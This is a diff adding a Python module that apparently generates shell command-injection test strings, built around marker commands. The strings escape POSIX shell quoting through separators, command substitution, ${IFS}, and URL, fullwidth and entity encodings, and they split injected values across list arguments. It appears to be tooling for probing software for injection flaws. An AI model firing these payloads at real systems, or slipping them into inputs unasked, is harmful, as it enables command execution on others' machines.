@@ -1,0 +1,90 @@
+"""Texts that leave their place in a command line for a POSIX shell.
+
+The words CMD, PLAIN, QUIET and SCRIPT stand for commands of a marker (`markers.runs` puts them in): any, one without a
+slash, one without quotes or `;&|<>`, and one of letters, digits and slashes only. A program is started for each try, so
+the first texts leave quotes of every kind at once, and what each leaves behind is a comment.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+
+from probes.grammars import evasions
+from probes.grammars.ranked import in_turn, ranked
+
+#: Leave every kind of quote, one after the other.
+_EVERYWHERE = (
+    "{};SCRIPT;#';SCRIPT;#\";SCRIPT;#",
+    "{}$(SCRIPT)",
+    "{}\nSCRIPT\n'\nSCRIPT\n\"\nSCRIPT\n",
+    "{}`SCRIPT`",
+    "{}\\';SCRIPT;#\\\";SCRIPT;#",
+    "{}|SCRIPT",
+    "{}\n/bin/sh\tPATH\n'\n/bin/sh\tPATH\n\"\n/bin/sh\tPATH\n",
+    "{}\n/bin/sh\tPATH\n",
+    "{}&SCRIPT",
+    "{}$(QUIET)",
+    "{}'\"'\"';SCRIPT;#",
+    "{}'\\'';SCRIPT;#\"\\\"\";SCRIPT;#",
+    "{}\\\\';SCRIPT;#\\\\\";SCRIPT;#",
+    "{}'$(SCRIPT)'",
+    '{}"$(SCRIPT)"',
+    "{});SCRIPT;#');SCRIPT;#\");SCRIPT;#",
+    "{};PLAIN;#';PLAIN;#\";PLAIN;#",
+    '{}";SCRIPT;"',
+    "{}';SCRIPT;'",
+    "{}\\$(SCRIPT)",
+    "{}\\`SCRIPT\\`",
+    '{}"\nSCRIPT\n"',
+    "{}'\nSCRIPT\n'",
+)
+#: Signs that a later step turns into those of a shell.
+_DECODED = (
+    "{}%0aSCRIPT%0a",
+    "{}\uff1bSCRIPT\uff1b\uff03",
+    "{}\uff04\uff08SCRIPT\uff09",
+    "{}%3BSCRIPT%3B%23",
+    "{}&#59;SCRIPT&#59;",
+    "{}\\nSCRIPT\\n",
+    "{}\uff07\uff1bSCRIPT\uff1b\uff03",
+    "{}%24(CMD)",
+    "{}\\x3bSCRIPT\\x3b",
+)
+_OPENERS = (("", "'", '"'), ("\\", "\\'", '\\"', "')", '")'))
+_SEPARATORS = (("\n", ";"), ("|", "&", "$(", "`", "&&", "||", "\r\n", ">(", "<("))
+_BLANKS = ((" ",), ("\t", "<", "${IFS}"))
+_CLOSERS = {"$(": ")", "`": "`", ">(": ")", "<(": ")"}
+
+
+def texts(ordinary: str) -> Iterator[str]:
+    """Texts for one argument, around a value that is usual there."""
+    everywhere = [one.format(ordinary) for one in _EVERYWHERE]
+    yield from everywhere[:4]
+    yield from in_turn(
+        everywhere[4:],
+        (other for payload in everywhere[:4] for other in evasions.evading(payload) if other != payload),
+        (one.format(ordinary) for one in _DECODED),
+        (one.format("") for one in _EVERYWHERE[:9]),
+        _alone(ordinary),
+    )
+
+
+def _alone(ordinary: str) -> Iterator[str]:
+    """One way out in each text, in few kinds of signs."""
+    for opener, separator, blank in ranked(_OPENERS, _SEPARATORS, _BLANKS):
+        command = f"/bin/sh{blank}PATH"
+        close = _CLOSERS.get(separator, separator if separator in "\n;" else "")
+        quote = opener[-1:] if opener[-1:] in "'\"" else ""
+        yield f"{ordinary}{opener}{separator}{command}{close}{quote}"
+
+
+def lists(ordinary: Sequence[str]) -> Iterator[list[str]]:
+    """Values of one list that make a command together, behind ordinary ones."""
+    before = list(ordinary)
+    for end in ("\n", ";", "|", "&", "\\", "'", '"', "$(", "`", "\\\n", "\r\n", " \n"):
+        yield [*before, f"{ordinary[0]}{end}", "/bin/sh", "PATH"]
+        if end in "\\'\"":
+            yield [*before, f"{ordinary[0]}{end}", ";SCRIPT;#"]
+            yield [*before, f"{ordinary[0]}{end}", f"{end}\nSCRIPT\n#"]
+    yield [*before, "\n/bin/sh", "PATH"]
+    yield [*before, "SCRIPT"]
